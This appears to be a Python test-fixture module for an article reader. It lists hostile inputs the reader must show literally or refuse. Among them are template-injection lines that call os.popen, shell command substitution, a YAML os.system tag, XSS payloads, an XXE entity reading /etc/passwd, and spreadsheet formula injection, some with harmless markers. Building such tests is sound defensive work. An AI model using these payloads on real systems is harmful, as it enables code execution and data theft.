"""Hostile input, and what must come of each: shown literally, or refused with which message.

Whatever runs as script sets `window.__pwned`; whatever runs as a template turns TEMPLATE into
TEMPLATE_RESULT; whatever runs as Python or shell writes the file PWNED.
"""

from dataclasses import dataclass
from pathlib import Path

FILES = Path(__file__).parent / "files"
RUN = "window.__pwned=1"
TEMPLATE, TEMPLATE_RESULT = "{{1231*3}}", "3693"
PWNED = "dateline-pwned"
LAST = "Later the train left Kharkov for Harbin."
"""Ends every text that is shown: hostile input must not cost what stands after it."""


@dataclass(frozen=True, slots=True)
class Shown:
    """A file that is read; `literal` stands in its text as it is."""

    name: str
    file: str
    data: bytes
    literal: str = ""


@dataclass(frozen=True, slots=True)
class Refused:
    """A file that is refused; `message` is a part of the one sentence that says why."""

    name: str
    file: str
    data: bytes
    message: str


TEMPLATES = {
    "jinja expression": TEMPLATE,
    "jinja open expression": "{{",
    "jinja closed expression": "}}",
    "jinja loop": "{% for x in range(9) %}{{ x }}{% endfor %}",
    "jinja open loop": "{% for %}",
    "jinja open comment": "{#",
    "jinja raw": "{% endraw %}" + TEMPLATE,
    "jinja include": "{% include '/etc/passwd' %}",
    "jinja shell": "{{ cycler.__init__.__globals__.os.popen('touch " + PWNED + "').read() }}",
    "jinja attribute": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "python format": "{0.__class__} {article} %(title)s %s %n",
    "shell": f"$(touch {PWNED}) `touch {PWNED}` ; touch {PWNED} | touch {PWNED}",
    "mako and erb": "<%= 1231*3 %> <% 1231*3 %> #{1231*3}",
}
SCRIPTS = {
    "script": f"<script>{RUN}</script>",
    "closed script": f"</script><script>{RUN}</script>",
    "script in comment": f"<!--<script>--><script>{RUN}</script>",
    "script of another host": '<script src="http://127.0.0.1:9/x.js"></script>',
    "image": f'<img src=x onerror="{RUN}">',
    "svg": f"<svg onload={RUN}>",
    "svg animation": f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    "frame": '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    "frame address": f'<iframe src="javascript:parent.{RUN}"></iframe>',
    "closed elements": f"</textarea></title></style></noscript><img src=x onerror={RUN}>",
    "mutation": f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={RUN}>",
    "details": f"<details open ontoggle={RUN}>",
    "double quoted attribute": f'" autofocus onfocus="{RUN}" onmouseover="{RUN}" x="',
    "single quoted attribute": f"' autofocus onfocus='{RUN}' onmouseover='{RUN}' x='",
    "bare attribute": f"x onmouseover={RUN} y",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62;",
    "base and refresh": '<base href="http://127.0.0.1:9/"><meta http-equiv=refresh content="0;/">',
    "style": "<style>*{display:none!important}</style>",
    "form": f'<form action="javascript:{RUN}"><button autofocus>Harbin</button></form>',
}
STRINGS = {
    "template literal": "${" + RUN + "}",
    "closed template literal": f"`;{RUN};`",
    "backticks": "`` ` ``` \\`",
    "double quoted string": f'";{RUN};"',
    "single quoted string": f"';{RUN};'",
    "calls": f"'+({RUN})+'\"-({RUN})-\"",
    "backslash at the end": "C:\\",
    "escapes": f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e \\u003cimg src=x onerror={RUN}\\u003e",
    "json": f'"}},"x":{{"__proto__":{{"a":1}}}} //{RUN}',
    "cdata": f"]]><script>{RUN}</script><![CDATA[",
    "xml entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
}
LINKS = {
    "javascript link": f"javascript:{RUN}",
    "javascript link with case and tab": f"jAvA\tscript:{RUN}",
    "javascript anchor": f'<a href="javascript:{RUN}">Harbin</a>',
    "data link": f"data:text/html,<script>{RUN}</script>",
    "markdown link": f"[Harbin](javascript:{RUN})",
    "markdown image": "![Harbin](http://127.0.0.1:9/pixel.png)",
    "autolink": f"<javascript:{RUN}>",
    "streamlit markdown": ":red[Harbin] :material/delete: $\\frac{1}{2}$ **x** ~~y~~ :smile:",
}
LETTERS = {
    "bidi override": "\u202enibraH\u202c \u2066x\u2069 \u200fy",
    "zero width": "Har\u200bbin Khar\u200dkov \ufeffMoscow\u2060 Ky\u00adiv",
    "tag characters": "Harbin\U000e0041\U000e0042",
    "combining": "Ha" + "\u0301\u0336" * 500 + "rbin",
    "right to left": "قال إن هاربين جميلة. הוא ביקר בחרבין.",
    "emoji": "👩‍👩‍👧‍👦 🇨🇳 🏴󠁧󠁢󠁥󠁮󠁧󠁿 in Harbin",
    "beyond the basic plane": "𝕳𝖆𝖗𝖇𝖎𝖓 𠜎𠜱",
    "private and unassigned": "\ue000 \U0010ffff \U000e0fff \ufffe",
    "line separators": "Harbin\u2028Kharkov\u2029Moscow\x85Kiev\x0bRome\x0cParis",
    "full width": "＜script＞ ＝1+1 ｊａｖａｓｃｒｉｐｔ：",
    "ansi": "\x1b[2J\x1b[31mred\x1b]0;title\x07 \x9b31m \x1b]8;;http://x\x07link\x1b]8;;\x07",
    "control": "a\x01\x02\x08\x08\x0e\x1f\x7fb\rover",
}
CELLS = {
    "formula": "=1+1",
    "formula command": "=cmd|' /C calc'!A0",
    "formula link": '=HYPERLINK("http://127.0.0.1:9/?"&A1,"Harbin")',
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "separators": 'a,b;c\td"e""f\'g',
}
PAYLOADS = TEMPLATES | SCRIPTS | STRINGS | LINKS | LETTERS | CELLS
CHANGED_BY_CLEANING = {
    "javascript link with case and tab", "line separators", "ansi", "control", "tab", "separators",
}  # fmt: skip
"""Payloads whose control characters or spaces are cleaned away by reading."""


def text_with(payload: str) -> bytes:
    """A plain text article that says `payload` in its title, alone, and beside a toponym."""
    title = payload.replace("\n", " ")
    body = f"{payload} {title}\n\nIn Harbin the sign said {payload} near Kharkov.\n\n"
    return f"{title}\n\n{body}{payload}\n\n{LAST}\n".encode()


def payload_cases() -> list[Shown]:
    return [
        Shown(name, "a.txt", text_with(p), "" if name in CHANGED_BY_CLEANING else p)
        for name, p in PAYLOADS.items()
    ]


def sized_cases() -> list[Shown]:
    """Input that is big, deep or long."""

    def text(name: str, body: str, file: str = "a.txt") -> Shown:
        return Shown(name, file, f"{body}\n\n{LAST}\n".encode())

    return [
        text("a name of 10,000 letters", "In " + "Harbin" * 1_667 + " it rained."),
        text("a name of 10,000 words", "In " + "Harbin " * 10_000 + "it rained."),
        text("a title of 10,000 letters", "H" + "a" * 10_000 + "\n\nIn Harbin it rained."),
        text("a megabyte without a space", "x" * 1_000_000),
        text("a megabyte of brackets", "[" * 500_000 + "]" * 500_000),
        text("5,000 paragraphs", "a\n\n" * 5_000),
        text("10,000 full stops", "." * 10_000 + " ?!" * 2_000),
        text("nested lists in Markdown", "\n".join("  " * n + "- x" for n in range(8)), "a.md"),
        text("open brackets in Markdown", "[" * 4_000 + "(" * 4_000, "a.md"),
        text("open emphasis in Markdown", "*a _b " * 2_000, "a.md"),
        text("backticks in Markdown", "".join("`" * n + " " for n in range(120)), "a.md"),
        text("deep HTML", "<div>" * 100 + "<p>In Harbin it rained.", "a.html"),
        text("HTML attributes", "<p " + "a=b " * 50_000 + ">In Harbin it rained.", "a.html"),
        text("HTML entities", "<p>" + "&amp;lt;&#0;&#xD800;&bogus; " * 1_000, "a.html"),
    ]


def front_matter(block: str) -> bytes:
    return f"---\n{block}\n---\nIn Harbin it rained.\n\n{LAST}\n".encode()


def shaped_cases() -> list[Shown]:
    """Files whose form is odd and which are read all the same."""
    return [
        Shown("hostile front matter", "a.md", front_matter(
            f"title: '{TEMPLATE}<script>{RUN}</script>'\noutlet: '=1+1'\nlanguage: en"
        )),
        Shown("unknown front matter", "a.md", front_matter("__class__: x\nid: ../../etc\nx: [1]")),
        Shown("empty front matter", "a.md", front_matter("")),
        Shown("title of 10,000 letters", "a.md", front_matter("title: " + "x" * 10_000)),
        Shown("byte order mark", "a.txt", b"\xef\xbb\xbf" + text_with("x")),
        Shown("old Mac line ends", "a.txt", text_with("x").replace(b"\n", b"\r")),
        Shown("hostile name", f"{TEMPLATE}<img src=x onerror={RUN}>.txt", text_with("x")),
        Shown("name with a bidi override", "a\u202edm.txt", text_with("x")),
        *(Shown(p.name, p.name, p.read_bytes()) for p in sorted(FILES.iterdir())),
    ]  # fmt: skip


def shown() -> list[Shown]:
    return payload_cases() + sized_cases() + shaped_cases()


BOMB = "a: &a [x, x]\n" + "\n".join(
    f"{c}: &{c} [*{b}, *{b}]" for b, c in zip("abcdefgh", "bcdefghi", strict=True)
)


def refused(limit: int) -> list[Refused]:
    """Files that are refused; `limit` is the setting max_article_bytes."""
    return [
        Refused("empty", "a.txt", b"", "is empty"),
        Refused("spaces", "a.txt", b" \n\t\r\n ", "is empty"),
        Refused("control characters only", "a.txt", b"\x01\x02\x1b\n", "is empty"),
        Refused("byte order mark only", "a.md", b"\xef\xbb\xbf", "is empty"),
        Refused("empty page", "a.html", b"", "no text to read"),
        Refused("page of scripts", "a.html", f"<script>{RUN}</script>".encode(), "no text to read"),
        Refused("all bytes", "a.txt", bytes(range(256)), "binary"),
        Refused("all bytes as a page", "a.html", bytes(range(256)), "binary"),
        Refused("UTF-16", "a.txt", "Harbin".encode("utf-16"), "binary file or UTF-16"),
        Refused("Latin-1", "a.txt", "In Zürich it rained.".encode("latin-1"), "not UTF-8"),
        Refused("overlong UTF-8", "a.txt", b"In Harbin \xc0\xbcscript\xc0\xbe", "not UTF-8"),
        Refused("surrogate bytes", "a.txt", b"In Harbin \xed\xa0\x80", "not UTF-8"),
        Refused("cut in a character", "a.md", "Харбин".encode()[:-1], "not UTF-8"),
        Refused("PNG", "a.txt", b"\x89PNG\r\n\x1a\n\x00\x00", "binary"),
        Refused("gzip", "a.txt", b"\x1f\x8b\x08\x00", "binary"),
        Refused("UTF-7 page", "a.html", b"<meta charset=utf-7>\xff+ADw-script+AD4-", "save it as"),
        Refused("PDF without pages", "a.pdf", b"%PDF-1.7", "is broken or no PDF"),
        Refused("hostile PDF", "a.pdf", f"%PDF-1.7 {TEMPLATE}{RUN}".encode() * 99, "is broken"),
        Refused("Word file without parts", "a.docx", b"PK\x03\x04", "is damaged or no Word file"),
        Refused("text called a Word file", f"{TEMPLATE}.docx", b"In Harbin.", "is damaged"),
        Refused("old Word file", "a.doc", b"\xd0\xcf\x11\xe0", ".doc files are not read"),
        Refused("program", "a.exe", b"MZ", ".exe files are not read"),
        Refused("hostile ending", f"a.<img src=x onerror={RUN}>", b"x", "files are not read"),
        Refused("too large", "a.txt", b"Paris " * (limit // 6 + 1), "is more than"),
        Refused("one word too large", "a.md", b"x" * (limit + 1), "is more than"),
        Refused("open front matter", "a.md", b"---\ntitle: x\nIn Harbin.\n", "not closed"),
        Refused("broken front matter", "a.md", front_matter("title: [x"), "not valid YAML"),
        Refused("tabs in front matter", "a.md", front_matter("a:\n\t- x"), "not valid YAML"),
        Refused("list as front matter", "a.md", front_matter("- a\n- b"), "key: value"),
        Refused("YAML bomb", "a.md", front_matter(BOMB), "aliases"),
        Refused("YAML object", "a.md", front_matter(
            f"title: !!python/object/apply:os.system ['touch {PWNED}']"), "YAML tags"),
        Refused("deep quotes", "a.md", b">" * 5_000 + b" Harbin", "nested too deeply"),
        Refused("deep lists", "a.md", b"- " * 5_000 + b"Harbin", "nested too deeply"),
        Refused("deep HTML", "a.html", b"<div>" * 5_000 + b"In Harbin.", "no text to read"),
        Refused("deep YAML", "a.md", front_matter("title: " + "[" * 5_000), "nested too much"),
        Refused("deep closed YAML", "a.md", front_matter("x: " + "[" * 5_000 + "]" * 5_000),
                "nested too much"),
        Refused("endless front matter", "a.md", front_matter("x: " + "y" * 70_000), "longer than"),
        Refused("title is a list", "a.md", front_matter("title: [a]"), "must be text"),
        Refused("no date", "a.md", front_matter("published: soon"), "must be a date"),
        Refused("impossible date", "a.md", front_matter("published: 2024-13-45"), ""),
        Refused("javascript as source", "a.md", front_matter(f"source: javascript:{RUN}"),
                "http or https"),
        Refused("hostile source", "a.md", front_matter(
            f"source: 'https://example.org/\"><script>{RUN}</script>'"), "http or https"),
    ]  # fmt: skip
